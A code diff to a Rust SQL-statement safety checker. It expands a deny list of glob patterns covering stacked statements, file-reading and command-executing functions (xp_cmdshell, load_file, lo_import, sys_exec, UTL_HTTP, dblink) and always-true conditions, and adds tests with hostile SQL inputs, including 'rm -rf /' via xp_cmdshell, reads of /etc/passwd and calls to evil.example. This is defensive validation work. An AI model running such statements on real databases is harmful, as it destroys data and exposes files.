@@ -5,7 +5,8 @@
 //! therefore lists what is known to be harmless and stops everything else: dropping, deleting,
 //! replacing, changing every row, reading other tables, files or addresses, attaching other files,
 //! and multiple statements. A word that is looked for is found in texts of the statement too, which
-//! is then stopped. A statement that starts in mixed case is not in the list. Conditions that hold
+//! is then stopped. The list of what is stopped knows the words of well-known databases, not every
+//! function of every one; the user of the database should have few rights. A statement that starts in mixed case is not in the list. Conditions that hold
 //! for every row are detected in their simple forms (`where 1`, `where true`), but not as
 //! `where a = a`.
 
@@ -18,17 +19,85 @@ const BEGINNINGS: [&str; 8] = [
     "create index ", "CREATE INDEX ",
 ];
 /// Globs that rule out a statement, in any case: a second statement, a comment, an upsert, reading
-/// something else, or a condition that is always true.
-const EXCLUDED: [&str; 22] = [
-    "*;*", "*--*",
+/// something else, a function that reaches further than the table, or a condition that is always
+/// true.
+const EXCLUDED: &[&str] = &[
+    "*;*",
+    "*--*",
     // A comment around the condition. A pattern cannot contain a literal star, so it looks for the
     // slashes.
-    "*/*where*/*", "*conflict*", "update or *", "update *or*replace*",
+    "*/*where*/*",
+    "*conflict*",
+    "*duplicate key*",
+    "update or *",
+    "update *or*replace*",
+    // SQL Server takes statements one after the other, with or without `GO`.
+    "* exec *",
+    "* exec(*",
+    "*)exec *",
+    "* execute *",
+    "*\ngo",
+    "*\ngo\r*",
+    "*\ngo\n*",
+    "*\ngo *",
+    "*drop table*",
+    "*drop database*",
+    "*truncate table*",
+    "*) delete *",
+    "*) drop *",
+    "*) alter *",
+    "*) update *",
     // DuckDB reads a file or an address wherever a table may stand, and SQLite has functions for
     // files.
-    "*select*", "*from*", "create table * as *", "*://*", "*read_*", "*_scan*", "*getenv*",
-    "*load_extension*", "*readfile*", "*writefile*", "*edit(*", "*glob(*", "*where 1*",
-    "*where true*", "*or 1*=*1*", "*where ''*",
+    "*select*",
+    "*from*",
+    "create table * as *",
+    "create table * table *",
+    "create table *\ntable *",
+    "*(table *",
+    "*) union *",
+    "*)union *",
+    "*://*",
+    "*read_*",
+    "*_scan*",
+    "*getenv*",
+    "*load_extension*",
+    "*readfile*",
+    "*writefile*",
+    "*edit(*",
+    "*glob(*",
+    // PostgreSQL: other databases, files, other sessions, and statements in texts.
+    "*dblink*",
+    "* pg_*(*",
+    "*(pg_*(*",
+    "*,pg_*(*",
+    "*lo_import*",
+    "*lo_export*",
+    "*lo_unlink*",
+    "*lo_put*",
+    "*_to_xml*",
+    // MySQL and Oracle: files, programs and addresses.
+    "*load_file*",
+    "*sys_exec*",
+    "*sys_eval*",
+    "*utl_*",
+    "*dbms_*",
+    // ClickHouse and Hive: files and addresses in place of a table.
+    "insert into function *",
+    "insert into table function *",
+    "insert into directory *",
+    // The schema of SQLite, and commands to its full-text search.
+    "*sqlite_master*",
+    "*sqlite_schema*",
+    "*sqlite_sequence*",
+    "*delete-all*",
+    "*where 1*",
+    "*where true*",
+    "*or 1*=*1*",
+    "* 1=1*",
+    "* 1 = 1*",
+    "*where ''*",
+    "*where  1*",
 ];
 /// Globs that rule out an update: with these, its quotes cannot be counted.
 const UNCOUNTABLE_QUOTES: [&str; 4] = ["*'*\"*", "*\"*'*", "*\\*", "*$*"];
@@ -72,7 +141,12 @@ impl HarmlessSqlCondition {
             MatchConditions { arguments, not, ..MatchConditions::default() }
         };
         let mut any = vec![
-            holds(globs(&EXCLUDED)),
+            holds(globs(EXCLUDED)),
+            // The rows of another table.
+            MatchConditions {
+                not: Some(Box::new(holds(globs(&["* values*(*"])))),
+                ..holds(globs(&["insert into * table *"]))
+            },
             update_with(None, Some(globs(&["* where *"]))),
             update_with(Some(globs(&UNCOUNTABLE_QUOTES)), None),
         ];
@@ -120,6 +194,9 @@ mod tests {
             "UPDATE orders SET state = 'paid', note = 'by card' WHERE id = 7",
             "update orders set total = 7 where state = 'open' and place = 'Bern'",
             "update orders set note = 'it''s done' where id = 7",
+            "INSERT INTO notes(title, body) VALUES ('Milk (2 litres)', datetime('now'))",
+            "insert into tasks (title) values ('Update the table of good executives')",
+            "insert into tasks (title) values ('delete old files, drop me a line')",
         ] {
             assert!(statement.is_harmless(text), "{text}");
         }
@@ -171,6 +248,33 @@ mod tests {
             "update  or replace a set b = 1 where c = 2",
             "INSERT INTO a VALUES (WRITEFILE('/home/u/.bashrc', 'x'))",
             "INSERT INTO a VALUES (LOAD_EXTENSION('/tmp/x'))",
+            "insert into t values (1) on duplicate key update a = 2",
+            "INSERT INTO t EXEC xp_cmdshell 'rm -rf /'",
+            "insert into t exec sp_who",
+            "insert into t values (load_file('/etc/passwd'))",
+            "insert into t values (lo_import('/etc/passwd'))",
+            "insert into t values (lo_unlink(5))",
+            "insert into t values (pg_ls_dir('/'))",
+            "insert into t values (pg_terminate_backend(5))",
+            "insert into t values (dblink_exec('dbname=x', 'drop table y'))",
+            "insert into t values (dblink('host=evil.example', 'x'))",
+            "insert into t values (sys_exec('id'))",
+            "insert into t values (sys_eval('id'))",
+            "INSERT INTO t VALUES (UTL_HTTP.REQUEST('evil.example'))",
+            "insert into t values (query_to_xml('del'||'ete', true, true, ''))",
+            "insert into t values (1)\nGO\ndrop table t",
+            "insert into t values (1)\r\ngo",
+            "insert into t values (1) drop table t",
+            "update t set a = 1 where b = 2 drop table t",
+            "update t set a = 1 where b = 2 truncate table t",
+            "insert into t table other",
+            "create table a as\ntable b",
+            "update t set a = b where x in (table y)",
+            "update t set a = 1 where  1=1",
+            "update sqlite_master set sql = 'x' where name = 'y'",
+            "insert into docs(docs) values ('delete-all')",
+            "insert into function url('http:', 'CSV') values (1)",
+            "insert into directory '/tmp/x' values (1)",
         ] {
             assert!(!statement.is_harmless(text), "{text}");
         }
